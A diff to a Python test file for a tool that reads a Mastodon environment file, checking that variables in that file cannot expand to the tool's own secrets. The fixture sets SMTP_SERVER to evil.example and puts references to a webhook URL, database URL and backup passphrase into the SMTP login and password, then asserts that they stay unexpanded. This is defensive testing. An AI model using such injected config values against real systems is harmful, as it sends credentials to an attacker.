@@ -89,10 +89,18 @@ def test_mastodons_check_on(machine: Machine) -> None:
 
 def test_our_variables_are_not_put_into_mastodons_values(machine: Machine) -> None:
     """Whoever owns Mastodon's file cannot have our secrets sent to a server of his."""
-    secret = {"UPDATE_CHECK_WEBHOOK_URL": "https://hooks.example/secret"}
-    machine.mastodon("SMTP_SERVER=evil.example\nSMTP_LOGIN=x$UPDATE_CHECK_WEBHOOK_URL\nSMTP_PASSWORD=$HOME")
-    options = machine.sink("email", secret).options
-    assert ("x", str(machine.home)) == (options["login"], options["password"])
+    secrets = {
+        "UPDATE_CHECK_WEBHOOK_URL": "https://hooks.example/secret",
+        "DATABASE_URL": "postgresql://u:secret@db/x",
+        "BACKUP_PASSPHRASE": "secret of root's",
+        "LOCAL_DOMAIN": "social.example",
+    }
+    machine.mastodon(
+        "SMTP_SERVER=evil.example\nSMTP_LOGIN=x$UPDATE_CHECK_WEBHOOK_URL$DATABASE_URL\nSMTP_PASSWORD=x$BACKUP_PASSPHRASE\n"
+        "SMTP_FROM_ADDRESS=mail@$LOCAL_DOMAIN"
+    )
+    options = machine.sink("email", secrets).options
+    assert ("x", "x", "mail@social.example") == (options["login"], options["password"], options["from_address"])
 
 
 def test_commands_count_only_in_what_is_used(machine: Machine) -> None:
